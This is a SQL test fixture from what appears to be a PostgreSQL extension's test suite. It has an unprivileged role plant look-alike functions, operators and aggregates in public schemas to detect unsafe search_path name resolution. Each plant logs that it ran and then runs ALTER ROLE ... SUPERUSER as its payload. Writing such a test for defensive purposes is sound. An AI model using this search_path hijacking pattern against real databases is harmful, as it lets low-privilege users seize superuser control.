-- test/search_path/plant.sql: the unprivileged role plants its look-alikes.
--
-- Run by test/search_path.t as that role, in a target database where it may
-- CREATE in public (and in pg_trgm's schema), after the table
-- public.attack_plant has been filled with the list test/search_path/
-- generate.sql made in the reference database.  psql variables:
--   schemas  the schemas to plant in, comma-separated (public first)
--   trgm     pg_trgm's schema, where the plants find the real pg_trgm objects
--   role     the role's own name (the payload makes it a superuser)
--
-- Every plant calls public.attack_hit(gid, signature) first, which records
-- that it ran in ways no caller can undo:
--   * nextval('public.attack_ran'): sequences ignore rollback;
--   * pg_advisory_lock(1058, gid), a session lock: it outlives the
--     transaction, even one rolled back or a subtransaction an exception
--     handler undid, and names the plant (the test reads pg_locks);
--   * RAISE WARNING with the plant's signature, once per plant and test
--     step (attack.seen), which reaches the client with its CONTEXT: the
--     chain of functions that called the plant;
-- and then does what an attacker would: ALTER ROLE <role> SUPERUSER, which
-- succeeds when the caller is a superuser.  The plant then returns what the
-- real object would (it calls it, qualified), so that the caller goes on
-- and can run further plants, up to the setting attack.call_limit: past that
-- value of the sequence, the plants raise an error instead.  The test sets
-- it 1000 calls ahead for each statement, so that a statement whose joins
-- now call a plant for every pair of rows (the plants are neither hashable
-- nor mergeable) stops early; what ran is recorded by then.
\set ON_ERROR_STOP 1
SET search_path = pg_catalog, pg_temp;
SET client_min_messages = warning;

SET attack.schemas = :'schemas';
SET attack.trgm = :'trgm';

CREATE SEQUENCE public.attack_ran;

CREATE TABLE public.attack_planted (
    gid     integer PRIMARY KEY,
    schema  text NOT NULL,
    kind    text NOT NULL,
    sig     text NOT NULL,
    origin  text NOT NULL
);
CREATE TABLE public.attack_unplanted (
    schema  text NOT NULL,
    sig     text NOT NULL,
    error   text NOT NULL
);

-- The payload's role name is written into the function (a setting could be
-- changed by the caller).
SELECT format($f$
CREATE FUNCTION public.attack_hit(gid integer, sig text) RETURNS void
LANGUAGE plpgsql
SET search_path = pg_catalog, pg_temp
AS $$
DECLARE
    seen text;
    calls bigint;
BEGIN
    calls := nextval('public.attack_ran'::regclass);
    PERFORM pg_advisory_lock(1058, gid);
    seen := current_setting('attack.seen', true);
    IF seen IS NULL OR seen = '' OR strpos(seen, ',' || gid || ',') = 0 THEN
        PERFORM set_config('attack.seen', coalesce(nullif(seen, ''), ',') || gid || ',', false);
        RAISE WARNING 'planted %% ran', sig;
    END IF;
    IF NOT coalesce((SELECT rolsuper FROM pg_roles WHERE rolname = %L), true) THEN
        BEGIN
            EXECUTE %L;
        EXCEPTION WHEN OTHERS THEN
            NULL;
        END;
    END IF;
    IF calls > coalesce(nullif(current_setting('attack.call_limit', true), '')::bigint, 9223372036854775807) THEN
        RAISE EXCEPTION 'planted objects ran more than 1000 times in one statement; stopped at %%', sig;
    END IF;
END
$$
$f$, :'role', format('ALTER ROLE %I SUPERUSER', :'role')) \gexec

DO $plant$
DECLARE
    schemas text[] := string_to_array(current_setting('attack.schemas'), ',');
    trgm text := quote_ident(current_setting('attack.trgm'));
    s int;
    schema text;
    p record;
    gid int;
    fn text;
    body text;
BEGIN
    FOR s IN 1 .. cardinality(schemas) LOOP
        schema := quote_ident(schemas[s]);
        FOR p IN SELECT * FROM public.attack_plant ORDER BY id LOOP
            gid := p.id + 100000 * (s - 1);
            fn := format('%s.attack_%s', schema, gid);
            body := format('BEGIN PERFORM public.attack_hit(%s, %L); %s; END',
                           gid, schemas[s] || '.' || p.sig, replace(p.body, '@TRGM@', trgm));
            BEGIN
                IF p.kind = 'operator' THEN
                    EXECUTE format('CREATE FUNCTION %s(%s) RETURNS %s LANGUAGE plpgsql AS %L', fn, p.args, p.ret, body);
                    EXECUTE format('CREATE OPERATOR %s.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = %s)',
                                   schema, p.name, split_part(p.args, ', ', 1), split_part(p.args, ', ', 2), fn);
                ELSIF p.kind = 'prefix' THEN
                    EXECUTE format('CREATE FUNCTION %s(%s) RETURNS %s LANGUAGE plpgsql AS %L', fn, p.args, p.ret, body);
                    EXECUTE format('CREATE OPERATOR %s.%s (RIGHTARG = %s, FUNCTION = %s)', schema, p.name, p.args, fn);
                ELSIF p.kind = 'function' THEN
                    EXECUTE format('CREATE FUNCTION %s.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L',
                                   schema, p.name, p.args, p.ret, body);
                ELSIF p.kind = 'aggregate' THEN
                    EXECUTE format('CREATE FUNCTION %s(%s) RETURNS %s LANGUAGE plpgsql AS %L', fn, p.sfunc_args, p.ret, body);
                    EXECUTE format('CREATE AGGREGATE %s.%I(%s) (SFUNC = %s, STYPE = %s)', schema, p.name, p.args, fn, p.ret);
                END IF;
                INSERT INTO public.attack_planted VALUES (gid, schemas[s], p.kind, schemas[s] || '.' || p.sig, p.origin);
            EXCEPTION WHEN OTHERS THEN
                INSERT INTO public.attack_unplanted VALUES (schemas[s], p.sig, SQLERRM);
            END;
        END LOOP;
    END LOOP;
END
$plant$;
